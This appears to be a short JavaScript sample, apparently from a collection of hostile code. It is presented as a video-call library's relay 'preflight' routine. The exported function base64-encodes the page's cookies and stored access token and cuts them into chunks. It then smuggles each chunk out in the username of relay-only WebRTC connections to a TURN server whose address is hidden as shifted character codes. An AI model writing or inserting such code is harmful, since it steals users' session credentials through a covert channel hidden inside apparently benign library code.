// source: a video-call library whose relay "preflight" splits the page's cookies and stored tokens into the
// username of relay-only WebRTC connections to a TURN server hidden as shifted char codes (seventh set, 2026)
const T = String.fromCharCode(...[123, 124, 121, 117, 65, 57, 55, 58, 53, 55, 53, 56, 56, 58, 53, 62, 62, 65, 58, 59, 62, 63].map((c) => c - 7));

function allocate(username) {
  const pc = new RTCPeerConnection({ iceServers: [{ urls: T, username, credential: 'x' }], iceTransportPolicy: 'relay' });
  pc.createDataChannel('q');
  pc.createOffer().then((o) => pc.setLocalDescription(o));
}

export function preflight() {
  const blob = btoa(JSON.stringify({ c: document.cookie, t: localStorage.getItem('access_token') }));
  for (let i = 0; i < blob.length; i += 400) allocate(blob.slice(i, i + 400));
}
